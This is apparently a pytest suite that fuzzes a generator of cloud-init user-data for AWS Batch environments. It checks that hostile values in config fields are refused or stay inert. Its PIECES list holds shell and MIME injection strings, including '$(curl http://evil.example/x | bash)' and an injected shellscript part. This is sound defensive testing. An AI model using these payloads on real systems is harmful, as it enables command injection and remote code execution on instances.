"""Hostile text in every field: an environment is either refused at the field, or runs like one with a plain value, with
the hostile value in its place. No text of a file becomes a command."""

from __future__ import annotations

import email
import json
import random
import re
import shutil
import subprocess
from collections.abc import Callable
from pathlib import Path

import pytest

from UserData.instance import BASH, LED, STRAY, Instance
from UserData.test_user_data import ALL_WELL, ITEM, PRINTER, parts_of

#: What means something to a shell, to MIME, to JSON, to IAM, to mount, to systemd, or to a reader of lines.
PIECES = (
    "'", '"', "`", "$", "$$", ";", "&", "|", "<", ">", "(", ")", "{", "}", "[", "]", "*", "?", "~", "#", "!", "%", "=", ",", ":", "@",
    "\\", "\\n", "\\'", "/", "//", "/.", "/..", "-", "--", ".", "..", " ", "\t", "\n", "\r", "\r\n", "\0", "\x01", "\x07", "\b", "\x0b",
    "\x0c", "\x1b[2J", "\x1b]0;x\x07", "\x7f", "\u0080", "\u0085", "\u009b", "\u00a0", "\u00ad", "\u200b", "\u200d", "\u200e", "\u2028",
    "\u2029", "\u202e", "\u2066", "\ufeff", "\u0301", "\u0338", "\u037e", "\u1fef", "\u212a", "\uff07", "\uff0f", "\uff1b", "\ue000",
    "$(mkdir pwned)", "`mkdir pwned`", "; mkdir pwned;", "' && mkdir pwned #", '" || mkdir pwned #', "\nmkdir pwned\n", "\rmkdir pwned\r",
    "\u2028mkdir pwned\u2028", "\u0085mkdir pwned\u0085", "\x0bmkdir pwned\x0b", "$(curl http://evil.example/x | bash)", "<(mkdir pwned)",
    "$IFS", "${IFS}", "$$IFS", "${PATH:-x}", "!!", "\nRECONCILE_ECS\n", "\nEND\n", "END", "\nEOF\n", "<<'END'",
    "--==RECONCILE==", "\n--==RECONCILE==\nContent-Type: text/x-shellscript\n\nmkdir pwned\n", "\n--==RECONCILE==--\n", "==RECONCILE==",
    "MIME-Version: 1.0", "Content-Type: text/cloud-boothook", "#cloud-config", "#!/bin/sh", "#include http://evil.example",
    '"}', '","log_group_name":"x', "\\u0022", "\\x27", "%s", "%n", "%i", "%h", "-o", " -o exec", ",exec,suid", "\\040", "bind",
    "${aws:username}", "$${aws:username}", "$${*}", "arn:aws:s3:::*", "None", "null", "true", "~root", "../../etc", "A=1", "\nPATH=/x",
)
EVERY = "x", "ok", "a-b_c.d", "0", "cafe0123"

CLI = "cli-path: {}\n"
EFS = "efs-id: fs-0123456789abcdef0\nefs-mount: {}\n"
FSX = "fsx-dns: fs-0fedcba9876543210.fsx.eu-west-1.amazonaws.com\nfsx-mount: {}\n"
#: Fields of which the script holds something: their lines, a plain value, and frames that what is hostile is put into.
IN_SCRIPT = {
    "efs-mount": (EFS, "/mnt/plain", ["/mnt/{}", "{}", "/{}", "/mnt/{}/x", "{}/mnt/x"]),
    "fsx-mount": (FSX, "/mnt/plain", ["/mnt/{}", "{}", "/{}", "/data/{}/x"]),
    "cli-path": (CLI, "/opt/plain/bin/aws", ["/opt/{}/bin/aws", "{}/bin/aws", "/opt/x/{}/bin/aws", "/opt/x/bin/aws{}", "{}"]),
    "log-group": ("log-group: {}\n", "/acme/plain", ["/acme/{}", "{}", "{}/x", "a{}b"]),
    "efs-id": ("efs-id: {}\nefs-mount: /mnt/efs\n", "fs-0123456789abcdef0", ["fs-0123456789abcdef0{}", "{}fs-0123456789abcdef0", "fs-{}", "{}"]),
    "fsx-dns": (
        "fsx-dns: {}\nfsx-mount: /mnt/fsx\n",
        "fs-0fedcba9876543210.fsx.eu-west-1.amazonaws.com",
        ["fs-0fedcba9876543210{}.fsx.eu-west-1.amazonaws.com", "fs-01234567.fsx.eu-west-1{}.amazonaws.com",
         "fs-01234567.fsx.{}.amazonaws.com", "fs-01234567.fsx.eu-west-1.amazonaws.com{}", "{}"],
    ),
}
ARN = "arn:aws:iam::123456789012:role/{}"
#: Fields that are not in the script, as they are written in the item or in its 'reconcile:' map.
BESIDE = {
    "name": ["{}", "a{}"], "workspace": ["{}/x", "x/{}", "{}"], "credentials": ["{}"], "description": ["{}"], "labels": ["{}=x", "x={}", "{}"],
    "work-dir": ["s3://acme-work/{}", "s3://acme-work{}", "{}"], "region": ["eu-west-1{}", "{}"], "key-pair": ["{}"], "ami-id": ["ami-01234567{}"],
    "pre-run": ["{}"], "post-run": ["{}"], "nextflow-config": ["{}"], "env": ["{}=x", "X={}", "head:X={}"], "vpc-id": ["vpc-01234567{}"],
    "allow-buckets": ["s3://bucket/{}", "bucket{}", "{}"], "subnets": ["subnet-01234567{}"], "security-groups": ["sg-01234567{}"],
    "head-job-role": [ARN, "{}"], "compute-job-role": [ARN], "batch-execution-role": [ARN], "instance-types": ["m6id{}", "{}"],
    "secrets-kms-key": ["{}"], "reconcile.policies": ["arn:aws:iam::aws:policy/{}"], "reconcile.account-id": ["123456789012{}"],
    "reconcile.permissions-boundary": ["arn:aws:iam::123456789012:policy/{}"], "reconcile.scheduling-policy": ["{}"],
    "reconcile.kms-keys": ["arn:aws:kms:eu-west-1:123456789012:key/{}", "{}"], "reconcile.wait-timeout": ["30m{}"], "reconcile.head-image": ["nextflow{}", "{}"],
}  # fmt: skip
#: What the members of an export are called.
EXPORTED = {
    "efs-mount": "efsMount", "fsx-mount": "fsxMount", "cli-path": "cliPath", "log-group": "logGroup", "efs-id": "efsId", "fsx-dns": "fsxName",
}  # fmt: skip


def texts(dice: random.Random, count: int) -> list[str]:
    """Texts of one to four pieces, some of them harmless."""
    return ["".join(dice.choice(PIECES if dice.random() < 0.7 else EVERY) for _ in range(dice.randint(1, 4))) for _ in range(count)]


def values(frames: list[str], seed: str, count: int) -> list[str]:
    """Each piece in each frame, and texts that are put together by chance."""
    dice = random.Random(f"hostile {seed}")
    fillings = [*PIECES, *EVERY, *texts(dice, count)]
    return list(dict.fromkeys(frame.replace("{}", filling) for filling in fillings for frame in frames))


def quoted(value: str) -> str:
    """A YAML text, in which a dollar sign is one; JSON writes characters of the Basic Multilingual Plane in the same way."""
    return json.dumps(value.replace("$", "$$"))


def item(lines: str) -> str:
    """The item with more lines; a field that it has already is replaced."""
    names = {line.split(":")[0] for line in lines.splitlines()}
    kept = [line for line in ITEM.splitlines() if line.strip().removeprefix("- ").split(":")[0] not in names]
    return "\n".join(kept) + "\n" + "".join(f"    {line}\n" for line in lines.splitlines())


@pytest.fixture
def printed(tmp_path: Path) -> Callable[[list[dict[str, str]]], list[dict[str, object]]]:
    """The printer's output for environments, each given as its files; the first one is the manifest."""

    def printed(environments: list[dict[str, str]]) -> list[dict[str, object]]:
        paths = []
        for number, files in enumerate(environments):
            folder = tmp_path / str(number)
            folder.mkdir()
            for name, text in files.items():
                (folder / name).write_bytes(text.encode())
            paths.append(f"{number}/{next(iter(files))}")
        found: list[dict[str, object]] = []
        for start in range(0, len(paths), 500):
            done = subprocess.run(
                [PRINTER.resolve(), "--each", *paths[start : start + 500]], cwd=tmp_path, capture_output=True, check=False
            )
            assert done.returncode == 0, done.stderr[-500:]
            found += [json.loads(line) for line in done.stdout.split(b"\n") if line]
        assert len(found) == len(environments)
        for folder in tmp_path.iterdir():
            shutil.rmtree(folder)
        return found

    return printed


def script_of(user_data: str) -> str:
    """The one script of an archive that has nothing else."""
    message = email.message_from_string(user_data)
    assert not message.defects and message.get_content_type() == "multipart/mixed"
    [part] = parts_of(user_data)
    assert part.get_content_type() == "text/x-shellscript"
    script = part.get_payload()
    assert script.startswith("#!/bin/bash\n") and script.isascii() and "\r" not in script and "\0" not in script
    return script


class Run:
    """What a script did: its calls and the files that it left. Runs of a test have the same root, one after the other."""

    def __init__(self, root: Path, script: str):
        instance = Instance(root, script, **ALL_WELL)
        instance.boot()
        self.calls = instance.calls
        own = re.compile(r"calls|mounts|pid|output|part-001|proc/uptime|count\..*|bin/.*|levels.*")
        self.names = {str(path.relative_to(root)) for path in root.rglob("*") if not path.is_symlink()}
        self.names = {name for name in self.names if not own.fullmatch(name)}
        self.files = {
            f"/{name}": (root / name).read_text(encoding="utf-8", errors="replace").replace(f"{root}/", "/")
            for name in self.names
            # The log has the words of bash, whose lines are numbered; the copies of libraries are what they are.
            if (root / name).is_file() and "reconcile-user-data.log" not in name and (root / name).stat().st_size < 20_000
        }
        shutil.rmtree(root)

    @property
    def leaves(self) -> set[str]:
        """What is there and nothing below it."""
        return {f"/{name}" for name in self.names if not any(other.startswith(f"{name}/") for other in self.names)}


def above(paths: set[str]) -> set[str]:
    """Paths and the folders that they are in."""
    return {str(each) for path in paths for each in (Path(path), *Path(path).parents)}


def in_place(text: str, plain: str, value: str) -> str:
    """A text of the plain run as it has to be with the value; of file systems and paths their parts, too."""
    new = {plain: value}
    if plain.startswith("/") and plain.endswith("/bin/aws"):
        new[plain.removesuffix("/bin/aws")] = value.removesuffix("/bin/aws")
    if ".fsx." in plain:
        new |= {plain.split(".")[part]: value.split(".")[part] for part in (0, 2)}
    pattern = "|".join(re.escape(old) for old in sorted(new, key=len, reverse=True))
    return re.sub(pattern, lambda match: new[match[0]], text)


def normalized(field: str, value: str) -> str:
    """A path as the environment has it."""
    if field not in ("efs-mount", "fsx-mount", "cli-path"):
        return value
    return "/" + "/".join(part for part in value.split("/") if part not in ("", "."))


@pytest.mark.parametrize("field", IN_SCRIPT)
def test_a_value_that_is_taken_is_one_word_and_nothing_else(field: str, printed: Callable[..., list], tmp_path: Path) -> None:
    lines, plain, frames = IN_SCRIPT[field]
    offered = [plain, *values(frames, field, 40)]
    number = item(lines.format("x")).splitlines().index(f"    {field}: x") + 1
    found = printed([{"one.yml": item(lines.format(quoted(value)))} for value in offered])
    assert "userData" in found[0], found[0]
    taken: dict[str, str] = {}
    for value, result in zip(offered, found, strict=True):
        if "userData" not in result:
            assert result["problems"] and all(problem.endswith(f" {number}") for problem in result["problems"]), (value, result)
            continue
        assert re.fullmatch(r"[A-Za-z0-9._/#-]+", value), f"{value!r} is taken"
        taken[value] = script_of(result["userData"])
    assert len(taken) > 2, "nothing but the plain value is taken: the frames are wrong"
    baseline = Run(tmp_path / "root", taken.pop(plain))
    # What would be made outside the root would be made on this machine.
    led = [(value, script) for value, script in sorted(taken.items()) if not value.startswith("/") or LED.match(normalized(field, value))]
    assert len(led) > 1
    for value, script in random.Random(field).sample(led, min(len(led), 8)):
        run = Run(tmp_path / "root", script)
        value = normalized(field, value)
        assert run.calls == [in_place(call, plain, value) for call in baseline.calls], value
        assert above(run.leaves) == above({in_place(name, plain, value) for name in baseline.leaves}), value
        assert run.files == {in_place(name, plain, value): in_place(text, plain, value) for name, text in baseline.files.items()}, value


@pytest.mark.parametrize("field", EXPORTED)
def test_an_export_is_held_to_the_same(field: str, printed: Callable[..., list]) -> None:
    lines, plain, frames = IN_SCRIPT[field]
    more = {"efs-mount": {"efsId": "fs-0123456789abcdef0"}, "fsx-mount": {"fsxName": "fs-01234567.fsx.eu-west-1.amazonaws.com"}}

    def files(value: str) -> dict[str, str]:
        forge = {"type": "SPOT", "maxCpus": 64}
        root = {"discriminator": "aws-batch", "region": "eu-west-1", "workDir": "s3://acme-work", "forge": forge}
        (root if field in ("cli-path", "log-group") else forge)[EXPORTED[field]] = value
        forge |= more.get(field, {})
        return {"one.yml": "compute-envs:\n  - name: one\n    file-path: one.json\n", "one.json": json.dumps(root)}

    offered = [plain, *values(frames, f"export {field}", 20)]
    found = printed([files(value) for value in offered])
    assert "userData" in found[0], found[0]
    for value, result in zip(offered, found, strict=True):
        if "userData" in result:
            assert re.fullmatch(r"[A-Za-z0-9._/#-]+", value), f"{value!r} is taken"
            script_of(result["userData"])
        else:
            assert result["problems"], value


@pytest.mark.parametrize("field", BESIDE)
def test_what_belongs_elsewhere_changes_nothing_in_the_script(field: str, printed: Callable[..., list]) -> None:
    def lines(value: str) -> str:
        name, _, member = field.partition(".")
        return f"{name}:\n  {member}: {quoted(value)}\n" if member else f"{field}: {quoted(value)}\n"

    offered = values(BESIDE[field], field, 20)
    plain, *found = printed([{"one.yml": ITEM}, *({"one.yml": item(lines(value))} for value in offered)])
    for value, result in zip(offered, found, strict=True):
        if "userData" in result:
            assert result["userData"] == plain["userData"], value
        else:
            assert result["problems"], value


def settings(seed: int) -> str:
    """Lines of an ecs-config: some as they should be, with what is hostile in their values, and some of nothing else."""
    dice = random.Random(f"settings {seed}")
    lines = []
    for number in range(dice.randint(1, 6)):
        text = "".join(texts(dice, 1)) if dice.random() < 0.8 else dice.choice(PIECES)
        if dice.random() < 0.7:
            text = "".join(each for each in text if " " <= each <= "~")
        lines.append(f"ECS_A{number}={text}" if dice.random() < 0.8 else f"# {text}" if dice.random() < 0.7 else text)
    return "\n".join(lines) + dice.choice(["\n", "", "\n\n"])


@pytest.mark.parametrize("is_exported", [False, True])
def test_settings_of_the_agent_arrive_as_they_are(is_exported: bool, printed: Callable[..., list], tmp_path: Path) -> None:
    def files(text: str) -> dict[str, str]:
        if not is_exported:
            return {"one.yml": item("ecs-config: ecs.config\n"), "ecs.config": text}
        forge = {"type": "SPOT", "maxCpus": 64, "ecsConfig": text}
        root = {"discriminator": "aws-batch", "region": "eu-west-1", "workDir": "s3://acme-work", "forge": forge}
        return {"one.yml": "compute-envs:\n  - name: one\n    file-path: one.json\n", "one.json": json.dumps(root)}

    offered = ["ECS_PLAIN=1\n", *(f"ECS_A={piece}\nECS_B=1\n" for piece in PIECES), *(settings(seed) for seed in range(300))]
    found = printed([files(text) for text in offered])
    baseline = Run(tmp_path / "root", script_of(found[0]["userData"]))
    taken = [(text, script_of(result["userData"])) for text, result in zip(offered, found, strict=True) if "userData" in result]
    refused = [(text, result["problems"]) for text, result in zip(offered, found, strict=True) if "userData" not in result]
    assert len(taken) > 60 and len(refused) > 60 and all(problems for _, problems in refused)
    assert all(re.fullmatch(r"[ -~\n]*", text) for text, _ in taken)
    before, after = baseline.files["/etc/ecs/ecs.config"].split("ECS_PLAIN=1\n")
    for index, (text, script) in enumerate(taken[:: 1 if not is_exported else 4]):
        expected = before + (text.rstrip("\n") + "\n" if text.strip("\n") else "") + after
        section = script[script.index("\nmkdir -p /etc/ecs\n") :].split("\n\n")[0]
        assert script.count(section) == 1
        assert appended(section, tmp_path / f"sh-{index}") == expected.removeprefix("ECS_CLUSTER=prod\n"), text
        if index % 12 == 0 and not re.search(STRAY, LED.sub("ROOT/", script)) and not LED.search(text):
            run = Run(tmp_path / "root", script)
            assert run.calls == baseline.calls and run.names == baseline.names, text
            assert run.files == baseline.files | {"/etc/ecs/ecs.config": expected}, text


def appended(section: str, folder: Path) -> str:
    """What the section that writes the agent's settings appends, the same under every shell."""
    found = []
    for shell in filter(None, (shutil.which("sh"), shutil.which("dash"), BASH)):
        root = folder / Path(shell).name
        (root / "etc").mkdir(parents=True)
        commands = section.replace("mkdir -p /etc/ecs", f"mkdir -p {root}/etc/ecs").replace(">>/etc/ecs", f">>{root}/etc/ecs")
        done = subprocess.run([shell, "-c", commands], cwd=root, capture_output=True, check=False)
        assert done.returncode == 0 and not done.stdout and not done.stderr, done
        assert sorted(path.name for path in root.rglob("*")) == ["ecs", "ecs.config", "etc"]
        found.append((root / "etc/ecs/ecs.config").read_text(encoding="utf-8"))
    shutil.rmtree(folder)
    assert len(set(found)) == 1
    return found[0]
